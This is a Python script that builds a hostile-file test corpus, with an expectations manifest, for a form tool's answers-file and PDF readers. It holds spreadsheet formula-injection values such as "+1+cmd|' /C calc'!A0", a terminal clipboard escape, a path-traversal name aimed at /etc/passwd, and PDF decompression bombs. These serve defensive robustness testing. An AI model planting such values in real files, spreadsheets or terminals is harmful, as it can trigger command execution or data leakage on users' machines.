#!/usr/bin/env python3
"""Writes the hostile-file corpus for `formwerk answers` and the inbox (issue 26).

    python3 tests/hostile/make.py OUT

OUT/good/ gets 50 honest files of the fixture form `antrag` (tests/hostile/site/): 47 answers
files sealed with the checksum of docs/antwortdatei.md and 3 filled PDFs. OUT/hostile/<class>/
gets one file per class, and OUT/manifest.json lists every class with its expected outcome:

- `expect`: "refused" (the file is named among the refused files, with `message`, and left
  out of the table) or "read" (it is a row of the table, with `status` and the `cells`
  stated), the same for `formwerk answers` (tests/hostile.rs) and the inbox
  (tests/browser/hostile.test.js);
- `reason`: the theme string (crates/render/theme/i18n/de.toml) the file is refused with: a
  `reason_*`, or the `budget_*` of the budget per file it breaks (crates/form/src/budget.rs);
  `message` is that string in German with its placeholders filled (`fill`), as both show it;
- `pdf`: also run with `--pdf DIR` (names that could escape the folder).

Only the standard library: the files are made here, never committed as blobs.
"""

import decimal
import hashlib
import json
import os
import sys
import tomllib
import zlib

FORM = "antrag"
VERSION = "1"
THEME_STRINGS = os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../crates/render/theme/i18n/de.toml")

# The budgets per file (crates/form/src/budget.rs) as their messages show the limits.
LIMIT = {"budget_depth": "64", "budget_keys": "20.000", "budget_pdf_fields": "10.000"}


# ---------------------------------------------------------------- answers files


def js_number(x):
    """A number as JavaScript's JSON.stringify writes it (integers beyond 2^53 as the double
    they become)."""
    if isinstance(x, bool):
        return "true" if x else "false"
    if isinstance(x, int) and abs(x) <= 2**53:
        return str(x)
    f = float(x)
    if f == 0:
        return "0"
    d = decimal.Decimal(repr(f))
    sign, digits, exp = d.normalize().as_tuple()
    digits = "".join(map(str, digits))
    k = len(digits)
    n = exp + k  # the decimal point's place after the first n digits
    s = "-" if sign else ""
    if k <= n <= 21:
        return s + digits + "0" * (n - k)
    if 0 < n <= 21:
        return s + digits[:n] + "." + digits[n:]
    if -6 < n <= 0:
        return s + "0." + "0" * (-n) + digits
    e = n - 1
    m = digits[0] + ("." + digits[1:] if k > 1 else "")
    return s + m + "e" + ("+" if e >= 0 else "-") + str(abs(e))


def utf16_key(k):
    return k.encode("utf-16-be")


def canonical(v):
    """docs/antwortdatei.md: keys sorted by UTF-16 code units, no white space, strings and
    numbers as JSON.stringify writes them."""
    if v is None or isinstance(v, bool):
        return json.dumps(v)
    if isinstance(v, (int, float)):
        return js_number(v)
    if isinstance(v, str):
        return json.dumps(v, ensure_ascii=False)
    if isinstance(v, list):
        return "[" + ",".join(canonical(i) for i in v) + "]"
    items = sorted(v.items(), key=lambda kv: utf16_key(kv[0]))
    return "{" + ",".join(json.dumps(k, ensure_ascii=False) + ":" + canonical(x) for k, x in items) + "}"


def seal(obj):
    body = {k: v for k, v in obj.items() if k != "checksum"}
    digest = hashlib.sha256(canonical(body).encode("utf-8", "surrogatepass")).hexdigest()
    return dict(obj, checksum="sha256:" + digest)


def answers_file(answers, **over):
    obj = {
        "format": "formwerk-answers",
        "format_version": 2,
        "form": FORM,
        "version": VERSION,
        "saved_at": "2026-03-03T09:15:00.000Z",
        "answers": answers,
    }
    obj.update(over)
    return seal(obj)


def dumps(obj):
    return json.dumps(obj, ensure_ascii=False, indent=1).encode("utf-8")


def good_answers(i):
    return {
        "name": "Gemeinde %02d" % i,
        "betrag": round(1000 + i * 123.45, 2),
        "beschreibung": "Zeile eins für Nr. %d\nZeile zwei: Größe, Maß, „Zitat“" % i,
        "datum": "2026-%02d-%02d" % (1 + i % 12, 1 + i % 28),
    }


# ---------------------------------------------------------------- PDFs


def pdf(objects, trailer=b"", root=1, info=2, after=b"", xref_at=None, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"):
    """A PDF of `objects` (bodies of objects 1..n) with a correct cross-reference table."""
    out = bytearray(header)
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for o in offsets:
        out += b"%010d 00000 n \n" % o
    info_ref = b"/Info %d 0 R " % info if info else b""
    out += b"trailer\n<< /Size %d /Root %d 0 R %s%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        root,
        info_ref,
        trailer,
        xref if xref_at is None else xref_at,
    )
    return bytes(out + after)


def pdf_text(s):
    """A PDF text string: UTF-16BE with BOM, as hex."""
    return b"<FEFF" + s.encode("utf-16-be").hex().upper().encode() + b">"


def form_pdf(values, form=FORM, version=VERSION, extra_fields=(), fields_override=None, trailer=b"", after=b"", header=None):
    """A filled PDF form as Formwerk's reader expects it: fields named by the answer ids, the
    form and version in the document information. `values` maps ids to /V objects (bytes)."""
    objs = [
        None,
        b"<< /FormwerkForm " + pdf_text(form) + b" /FormwerkVersion " + pdf_text(version) + b" >>",
        b"<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
    ]
    refs = []
    for fid, v in values.items():
        objs.append(b"<< /FT /Tx /T " + pdf_text(fid) + b" /V " + v + b" >>")
        refs.append(b"%d 0 R" % len(objs))
    for body in extra_fields:
        objs.append(body)
        refs.append(b"%d 0 R" % len(objs))
    fields = fields_override if fields_override is not None else b"[" + b" ".join(refs) + b"]"
    objs[0] = b"<< /Type /Catalog /Pages 3 0 R /AcroForm << /Fields " + fields + b" >> >>"
    return pdf(objs, trailer=trailer, after=after, **({"header": header} if header else {}))


def good_pdf(i, header=None):
    a = good_answers(i)
    return form_pdf(
        header=header,
        values={
            "name": pdf_text(a["name"]),
            "betrag": pdf_text(("%.2f" % a["betrag"]).replace(".", ",")),
            "beschreibung": pdf_text(a["beschreibung"]),
            "datum": pdf_text("%s.%s.%s" % tuple(reversed(a["datum"].split("-")))),
        }
    )


def incremental(base, objects, root=1, info=2):
    """An incremental update: `objects` ({number: body}) appended with their own xref section
    and a trailer pointing back at the previous one."""
    prev = base.rindex(b"startxref")
    prev_xref = int(base[prev + 9 :].split()[0])
    out = bytearray(base)
    offsets = {}
    for n, body in objects.items():
        offsets[n] = len(out)
        out += b"%d 0 obj\n" % n + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n"
    for n in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (n, offsets[n])
    size = max(list(offsets) + [8]) + 1
    out += b"trailer\n<< /Size %d /Root %d 0 R /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        root,
        info,
        prev_xref,
        xref,
    )
    return bytes(out)


def stream(data, extra=b"", compress=True):
    body = zlib.compress(data, 9) if compress else data
    f = b" /Filter /FlateDecode" if compress else b""
    return b"<< /Length %d%s%s >>\nstream\n" % (len(body), f, extra) + body + b"\nendstream"


# ---------------------------------------------------------------- the classes


def json_classes():
    """(class, file name, bytes, expectation) for answers files."""
    g = good_answers(99)
    ok = dumps(answers_file(g))
    R = "refused"

    def case(name, data, expect, reason="", fname=None, **more):
        return (name, fname or name + ".json", data, dict(expect=expect, reason=reason, **more))

    def over(name, data, budget, **more):
        return case(name, data, R, budget, fill={"limit": LIMIT[budget]}, **more)

    def read(name, data, status="complete", cells=None, **more):
        return case(name, data, "read", status=status, cells=cells or {}, **more)

    deep = '{"format":"formwerk-answers","format_version":2,"form":"antrag","version":"1","answers":{"name":"Tief","x":' + "[" * 10000 + "]" * 10000 + "}}"
    many_top = answers_file(dict(g), **{"k%07d" % i: i for i in range(1_000_000)})
    many_answers = dict(g, **{"x%06d" % i: "v" for i in range(20_000)})
    wide_answers = dict(g, **{"x%06d" % i: "v" for i in range(16_500)})
    utf16 = json.dumps(answers_file(g), ensure_ascii=False)
    altered = answers_file(g)
    altered["answers"] = dict(g, betrag=1.0)
    missing_sum = answers_file(g)
    del missing_sum["checksum"]
    proto_top = dict(answers_file(g), __proto__="x")
    proto_top = seal({k: v for k, v in proto_top.items() if k != "checksum"})
    dup = dumps(answers_file(dict(g, name="Zweiter Name"))).replace(b'"name": "Zweiter Name"', b'"name": "Erster Name", "name": "Zweiter Name"')
    v1e400 = ok.replace(b'"betrag": ', b'"betrag": 1e400, "betrag_alt": ')
    return [
        case("json-empty", b"", R, "reason_malformed"),
        case("json-truncated", ok[: len(ok) // 2], R, "reason_malformed"),
        case("json-binary", bytes(range(256)) * 4, R, "reason_malformed"),
        case("json-top-level-array", b'[{"format":"formwerk-answers"}]', R, "reason_malformed"),
        case("json-answers-array", dumps(answers_file([g["name"]])), R, "reason_malformed"),
        case("json-trailing-garbage", ok + b"\n}{", R, "reason_malformed"),
        case("json-comments", b"// Antwort\n" + ok, R, "reason_malformed"),
        case("json-nan", ok.replace(b'"betrag": ', b'"betrag": NaN, "x": '), R, "reason_malformed"),
        read("json-bom", b"\xef\xbb\xbf" + ok, cells={"name": g["name"]}),
        read("json-double-bom", b"\xef\xbb\xbf\xef\xbb\xbf" + ok, cells={"name": g["name"]},
             note="the browser's UTF-8 decoding drops one mark and answers-file.js one more: Rust drops two too"),
        case("json-triple-bom", b"\xef\xbb\xbf" * 3 + ok, R, "reason_malformed"),
        case("json-utf16le", b"\xff\xfe" + utf16.encode("utf-16-le"), R, "reason_malformed"),
        case("json-utf16be", b"\xfe\xff" + utf16.encode("utf-16-be"), R, "reason_malformed"),
        case("json-latin1", ok.replace("Größe".encode(), "Größe".encode("latin-1")), R, "reason_malformed"),
        case("json-lone-surrogate-value", ok.replace(b'"name": "', b'"name": "\\ud800'), R, "reason_malformed"),
        case("json-lone-surrogate-key", ok.replace(b'"answers": {', b'"answers": {"\\udc00": 1, '), R, "reason_malformed"),
        case("json-1e400", v1e400, R, "reason_malformed"),
        case("json-format-version-1e400", ok.replace(b'"format_version": 2', b'"format_version": 1e400'), R, "reason_malformed"),
        read("json-int-beyond-2-53", dumps(answers_file(dict(g, betrag=2**53 + 1))), status="wrong",
             note="betrag 9007199254740993 (the checksum over JavaScript's 9007199254740992) is read and out of range"),
        read("json-proto-top-level", dumps(proto_top), cells={"name": g["name"]},
             note="a top-level __proto__ is covered by the checksum on both sides"),
        read("json-proto-in-answers", dumps(answers_file(dict(g, __proto__={"polluted": True}))), status="wrong", cells={"name": g["name"]}),
        read("json-constructor-key", dumps(answers_file(dict(g, constructor="x", toString="y"))), status="wrong", cells={"name": g["name"]}),
        read("json-duplicate-keys", dup, cells={"name": "Zweiter Name"}, note="the last of two equal keys counts, as in JSON.parse"),
        case("json-duplicate-checksum", ok[:-2] + b',\n "checksum": "sha256:' + b"0" * 64 + b'"\n}', R, "reason_checksum_mismatch",
             note="a second checksum key after the right one: the last counts"),
        read("json-huge-string", dumps(answers_file(dict(g, beschreibung="Ä" * 5_000_000))), status="wrong",
             note="5 million characters: over the textarea's max_length; cut with a note in the XLSX"),
        over("json-deep-nesting", deep.encode(), "budget_depth", note="10,000 nested arrays, counted before parsing"),
        over("json-million-keys-top-level", dumps(many_top), "budget_keys", note="1,000,000 unknown top-level keys, sealed"),
        over("json-20000-unknown-answers", dumps(answers_file(many_answers)), "budget_keys", note="20,000 extra answers and the file's own keys"),
        read("json-16500-unknown-answers", dumps(answers_file(wide_answers)), status="wrong",
             note="16,500 extra columns, within the keys budget: beyond Excel's 16,384, a second answers sheet in the XLSX"),
        case("json-format-version-future", dumps(answers_file(g, format_version=3)), R, "reason_format_version", fill={"version": "3"}),
        case("json-format-version-string", dumps(answers_file(g, format_version="2")), R, "reason_malformed"),
        case("json-format-version-fraction", dumps(answers_file(g, format_version=2.5)), R, "reason_malformed"),
        case("json-format-other", dumps(answers_file(g, format="something-else")), R, "reason_format"),
        case("json-checksum-mismatch", dumps(altered), R, "reason_checksum_mismatch"),
        case("json-checksum-missing", dumps(missing_sum), R, "reason_checksum_missing"),
        case("json-checksum-number", dumps(dict(answers_file(g), checksum=12)), R, "reason_malformed"),
        case("json-other-form", dumps(answers_file(g, form="anderes")), R, "reason_foreign", fill={"form": "anderes"}),
        read("json-terminal-escapes", dumps(answers_file(dict(g, beschreibung="\x1b]52;c;ZWNobyBoYWNr\x07\x1b[2J\x1b[31mrot\r\x08\x7f\x9b31m"))), cells={"name": g["name"]}),
        read("json-escape-in-key", dumps(answers_file(dict(g, **{"\x1b[31mrot\x1b[0m": "x", "a\nb": "y"}))), status="wrong"),
        read("json-formula-hyperlink", dumps(answers_file(dict(g, name='=HYPERLINK("http://example.org/?x="&A1;"klick")'))), cells={"name": '=HYPERLINK("http://example.org/?x="&A1;"klick")'}),
        read("json-formula-plus", dumps(answers_file(dict(g, name="+1+cmd|' /C calc'!A0"))), cells={"name": "+1+cmd|' /C calc'!A0"}),
        read("json-formula-minus", dumps(answers_file(dict(g, name="-2+3"))), cells={"name": "-2+3"}),
        read("json-formula-at", dumps(answers_file(dict(g, name="@SUM(1+1)"))), cells={"name": "@SUM(1+1)"}),
        read("json-formula-tab", dumps(answers_file(dict(g, name="\t=1+1"))), cells={"name": "\t=1+1"}),
        read("json-zero-width-identify", dumps(answers_file(dict(good_answers(1), name="Gemeinde\u200b 01\u2060"))), duplicate=True,
             note="the same municipality as good/g01.json, written with zero-width characters: a duplicate"),
        read("json-rtl-override", dumps(answers_file(dict(g, name="Gemeinde \u202efdp.exe\u202c"))), cells={"name": "Gemeinde \u202efdp.exe\u202c"}),
        read("json-nul-in-value", dumps(answers_file(dict(g, beschreibung="a\x00b"))), cells={"beschreibung": "a\x00b"}),
        read("json-identify-path", dumps(answers_file(dict(g, name="../../../etc/passwd"))), cells={"name": "../../../etc/passwd"}, pdf=True),
        read("name-very-long", ok, fname="ü" * 120 + ".json", pdf=True, note="a 244-byte file name: its PDF's name is cut"),
        read("name-control-chars", ok, fname="a\x1b[31m\nb\x07.json", pdf=True),
        read("name-formula", ok, fname="=cmd|'calc'!A0.json", pdf=True, note="the file column is neutralised in the CSV"),
        read("name-dotdot", ok, fname="..json", pdf=True),
        read("name-dash", ok, fname="--pdf.json", pdf=True, note="a name like an option, given after --"),
        read("json-wrong-type-number", dumps(answers_file(dict(g, betrag="viel"))), status="wrong"),
        read("json-out-of-range", dumps(answers_file(dict(g, betrag=-5))), status="wrong"),
        read("json-impossible-date", dumps(answers_file(dict(g, datum="2026-02-30"))),
             note="30 February passes: the readers check the date's pattern only (a finding left open)"),
        read("json-identify-missing", dumps(answers_file({k: v for k, v in g.items() if k != "name"})), status="incomplete"),
        read("json-identify-array", dumps(answers_file(dict(g, name=["a", "b"]))), status="wrong"),
        read("json-version-future", dumps(answers_file(g, version="999")), cells={"name": g["name"]}),
    ]


def pdf_classes():
    R = "refused"
    g = good_answers(98)
    base = good_pdf(98)

    def case(name, data, expect, reason="", **more):
        return (name, name + ".pdf", data, dict(expect=expect, reason=reason, **more))

    def read(name, data, status="complete", cells=None, **more):
        return case(name, data, "read", status=status, cells=cells or {}, **more)

    name_id = pdf_text("name")
    bomb = stream(b"\0" * (200 << 20))
    objstm_bomb = stream(b"1 0 " * 10 + b"<< >>", extra=b" /Type /ObjStm /N 100000000 /First 40")
    cycle_obj = [b"<< /Type /Catalog /Pages 3 0 R /AcroForm << /Fields [5 0 R] >> >>", b"<< /FormwerkForm (antrag) >>",
                 b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 3 0 R >>", b"<< /Type /Page /Parent 3 0 R >>",
                 b"<< /T (name) /FT /Tx /V 6 0 R /Parent 5 0 R /Kids [5 0 R] >>", b"6 0 R"]
    many = [b"<< /FT /Tx /T (f%d) /V (x) >>" % i for i in range(20_000)]
    deep_array = b"<< /FT /Tx /T (name) /V (Tief) /Junk " + b"[" * 100_000 + b"]" * 100_000 + b" >>"
    deep_kids = [b"<< /T (k%d) /Kids [%d 0 R] >>" % (i, i + 6) for i in range(5, 5 + 3000)] + [b"<< /T (name) /FT /Tx /V (x) >>"]
    enc = b" /Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >> /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>]" % (b"28bf4e5e4e758a4164004e56fffa0108" * 2, b"00" * 32)
    over = incremental(base, {5: b"<< /FT /Tx /T " + name_id + b" /V " + pdf_text("Spätere Fassung") + b" >>"})
    return [
        case("pdf-not-a-pdf", b"%PDF-1.7\n" + bytes(range(256)) * 8, R, "reason_pdf_malformed"),
        case("pdf-only-header", b"%PDF-", R, "reason_pdf_malformed"),
        case("pdf-truncated", base[: len(base) // 2], R, "reason_pdf_malformed", note="no cross references: never rebuilt by guessing"),
        case("pdf-xref-anywhere", base.replace(b" 00000 n", b"7 0000 n").replace(b"startxref\n", b"startxref\n9"), R, "reason_pdf_malformed",
             note="every offset and startxref point elsewhere"),
        read("pdf-object-cycle", pdf(cycle_obj), status="incomplete", note="/V, /Parent, /Kids and /Pages refer to themselves: read, no answer"),
        case("pdf-kids-self", form_pdf({}, extra_fields=[b"<< /T (name) /FT /Tx /V (Selbst) /Kids [5 0 R 5 0 R] >>"]), "read", status="complete", cells={"name": "Selbst"}),
        read("pdf-deflate-bomb", form_pdf({"name": pdf_text("Bombe")}, extra_fields=[bomb]), cells={"name": "Bombe"},
             note="200 MB of zeros in 200 KB beside the fields: both read the fields and never inflate that stream "
                  "(the budget counts only object and cross-reference streams)"),
        read("pdf-objstm-bomb", form_pdf({"name": pdf_text("Bombe")}, extra_fields=[objstm_bomb]), cells={"name": "Bombe"},
             note="/N 100,000,000 objects claimed by a stream no cross reference makes an object stream: never unpacked"),
        case("pdf-encrypted-empty-password", form_pdf({"name": pdf_text("Geheim")}, trailer=enc), R, "reason_pdf_encrypted"),
        case("pdf-encrypted-password", form_pdf({"name": b"<8a0b1c>"}, trailer=enc.replace(b"00" * 32, b"ff" * 32)), R, "reason_pdf_encrypted"),
        read("pdf-incremental-update", over, cells={"name": "Spätere Fassung"}, note="the last update's value counts"),
        read("pdf-object-after-eof", base + b"5 0 obj\n<< /FT /Tx /T (name) /V (Nachgeschoben) >>\nendobj\n", cells={"name": g["name"]},
             note="an object after %%EOF that no cross reference names is not read"),
        read("pdf-comment-obj", good_pdf(98, header=b"%PDF-1.7\n% 5 0 obj << /T (name) /V (Kommentar) >> endobj\n"), cells={"name": g["name"]},
             note="an object in a comment is not read (the cross references count the comment's bytes)"),
        read("pdf-huge-length", form_pdf({"name": pdf_text("Lang")}, extra_fields=[b"<< /Length 999999999999 >>\nstream\nabc\nendstream"]), cells={"name": "Lang"},
             note="a stream claiming a terabyte, never read"),
        read("pdf-negative-length", form_pdf({"name": pdf_text("Lang")}, extra_fields=[b"<< /Length -5 >>\nstream\nabc\nendstream"]), cells={"name": "Lang"}),
        read("pdf-wrong-field-type", form_pdf({"betrag": pdf_text("1,00")}, extra_fields=[b"<< /FT /Btn /T (name) /V /Yes >>"]), status="incomplete",
             note="a check box named like the text field gives no text"),
        read("pdf-v-name", form_pdf({"name": b"/Gr#C3#B6#C3#9Fe"}), cells={"name": "Größe"}, note="a name object as /V reads as UTF-8"),
        read("pdf-v-array", form_pdf({"name": b"[(a) (b)]"}), status="incomplete"),
        read("pdf-v-stream", form_pdf({}, extra_fields=[b"<< /FT /Tx /T (name) /V 6 0 R >>", stream(b"Strom")]), status="incomplete"),
        read("pdf-v-number", form_pdf({"name": b"42", "betrag": b"1e999"}), status="incomplete"),
        read("pdf-utf16-odd", form_pdf({"name": b"<FEFF00C400>"}), cells={"name": "Ä"}, note="broken UTF-16: the odd last byte is dropped"),
        read("pdf-utf16-lone-surrogate", form_pdf({"name": b"<FEFFD800>"}), cells={"name": "\ufffd"}, note="a lone surrogate becomes U+FFFD"),
        case("pdf-twenty-thousand-fields", form_pdf({"name": pdf_text("Viele")}, extra_fields=many), R, "budget_pdf_fields",
             fill={"limit": LIMIT["budget_pdf_fields"]}),
        read("pdf-deep-array", form_pdf({}, extra_fields=[deep_array]), status="incomplete", note="100,000 nested arrays in a field never asked for"),
        read("pdf-deep-kids", form_pdf({}, fields_override=b"[5 0 R]", extra_fields=deep_kids), status="incomplete", note="3,000 levels of /Kids"),
        read("pdf-dangling-refs", form_pdf({}, fields_override=b"[77 0 R 4 0 R]"), status="incomplete"),
        case("pdf-no-acroform", pdf([b"<< /Type /Catalog /Pages 3 0 R >>", b"<< >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]), R, "reason_pdf_no_fields"),
        case("pdf-other-form", form_pdf({"name": pdf_text("Fremd")}, form="anderes"), R, "reason_foreign", fill={"form": "anderes"}),
        read("pdf-no-info", pdf([b"<< /Type /Catalog /Pages 3 0 R /AcroForm << /Fields [4 0 R] >> >>", b"<< >>",
                                 b"<< /Type /Pages /Kids [] /Count 0 >>", b"<< /FT /Tx /T (name) /V (Ohne Info) >>"], info=0),
             cells={"name": "Ohne Info"}),
        read("pdf-info-cycle", pdf([b"<< /Type /Catalog /Pages 3 0 R /AcroForm << /Fields [] >> >>", b"2 0 R", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
             status="incomplete", note="/Info refers to itself; an empty field list is still a form"),
        read("pdf-dotted-names", form_pdf({"name": pdf_text("Punkt")}, extra_fields=[b"<< /T (..) /Kids [6 0 R] >>", b"<< /T (name) /FT /Tx /V (Elternteil) /Parent 5 0 R >>"]),
             cells={"name": "Elternteil"}, note="the later of two fields named \"name\" counts"),
    ]


def main():
    out = sys.argv[1]
    os.makedirs(os.path.join(out, "good"), exist_ok=True)
    for i in range(1, 48):
        with open(os.path.join(out, "good", "g%02d.json" % i), "wb") as f:
            f.write(dumps(answers_file(good_answers(i))))
    for i in range(48, 51):
        with open(os.path.join(out, "good", "g%02d.pdf" % i), "wb") as f:
            f.write(good_pdf(i))
    with open(THEME_STRINGS, "rb") as f:
        strings = tomllib.load(f)
    manifest = []
    for name, fname, data, expect in json_classes() + pdf_classes():
        if expect["expect"] == "refused":
            message = strings[expect["reason"]]
            for k, v in expect.pop("fill", {}).items():
                message = message.replace("{%s}" % k, v)
            assert "{" not in message, (name, message)
            expect["message"] = message
        folder = os.path.join(out, "hostile", name)
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, fname), "wb") as f:
            f.write(data)
        manifest.append(dict(expect, **{"class": name, "file": os.path.join("hostile", name, fname)}))
    with open(os.path.join(out, "manifest.json"), "w", encoding="utf-8") as f:
        json.dump(manifest, f, ensure_ascii=False, indent=1)
    print("%d classes, 50 good files in %s" % (len(manifest), out))


if __name__ == "__main__":
    main()
